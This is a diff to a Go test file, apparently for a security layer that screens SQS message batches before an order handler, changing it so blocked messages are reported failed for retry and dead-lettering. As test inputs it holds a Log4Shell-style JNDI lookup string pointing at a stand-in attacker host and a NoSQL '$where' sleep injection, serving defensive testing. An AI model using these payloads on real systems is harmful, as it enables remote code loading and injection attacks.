@@ -97,11 +97,25 @@ func TestSQSExample(t *testing.T) {
 		}
 		return res
 	}
-	noRetries := func(res *emulator.Result) {
+	// blockedRecords: fail (the default where SQS supports partial batch
+	// responses): the malicious messages, and only they, are reported
+	// failed, so SQS retries them and moves them to the queue's dead-letter
+	// queue; the handler never sees them.
+	failsExactly := func(res *emulator.Result, ids ...string) {
 		t.Helper()
 		var resp events.SQSEventResponse
-		if err := json.Unmarshal(res.Payload, &resp); err != nil || len(resp.BatchItemFailures) != 0 {
-			t.Errorf("batch response %s: want no batch item failures (nothing to retry; the malicious message is dropped, not failed)", res.Payload)
+		if err := json.Unmarshal(res.Payload, &resp); err != nil {
+			t.Fatalf("batch response %s: %v", res.Payload, err)
+		}
+		var got []string
+		for _, f := range resp.BatchItemFailures {
+			got = append(got, f.ItemIdentifier)
+		}
+		slices.Sort(got)
+		want := slices.Clone(ids)
+		slices.Sort(want)
+		if !slices.Equal(got, want) {
+			t.Errorf("batch response %s: want exactly the malicious messages %v reported failed", res.Payload, ids)
 		}
 	}
 
@@ -113,7 +127,7 @@ func TestSQSExample(t *testing.T) {
 		attackBody,
 		`{"customer":"Dana","note":"second order; same as last time","items":[{"sku":"MUG-7","quantity":1,"price":12}]}`)
 	res := invoke(payload)
-	noRetries(res)
+	failsExactly(res, batch.Records[1].MessageId)
 
 	waitFor(t, func() bool { return len(placedOrders(f)) >= 2 })
 	got := placedOrders(f)
@@ -141,12 +155,12 @@ func TestSQSExample(t *testing.T) {
 	}
 
 	// A batch of nothing but attacks never reaches the handler; the agent
-	// answers with an empty partial-batch response so SQS deletes it.
+	// answers alone, reporting every message failed.
 	t.Run("all malicious", func(t *testing.T) {
 		all, payload := sqsBatch(t, `{"customer":"${jndi:ldap://attacker.example/a}","items":[{"sku":"A-1","quantity":1,"price":1}]}`,
 			`{"customer":{"$where":"sleep(5000)"},"items":[{"sku":"A-1","quantity":1,"price":1}]}`)
 		res := invoke(payload)
-		noRetries(res)
+		failsExactly(res, all.Records[0].MessageId, all.Records[1].MessageId)
 		rec, line := f.decision(t, res.RequestID)
 		if rec.Decision != "block" || !slices.Equal(rec.BlockedRecords, []int{0, 1}) {
 			t.Errorf("decision record: %s", line)
@@ -154,7 +168,7 @@ func TestSQSExample(t *testing.T) {
 		// A good batch after it: once its message is placed, the handler's
 		// ordered log would already show any line about the earlier ones.
 		after, payload := sqsBatch(t, `{"customer":"Eve","items":[{"sku":"A-1","quantity":1,"price":1}]}`)
-		noRetries(invoke(payload))
+		failsExactly(invoke(payload))
 		waitFor(t, func() bool { return placedOrders(f)[after.Records[0].MessageId] != "" })
 		if got := placedOrders(f)[after.Records[0].MessageId]; got != "ord-3" {
 			t.Errorf("the good message after the malicious batch was placed as %q, want ord-3 (only the two good orders before it)", got)
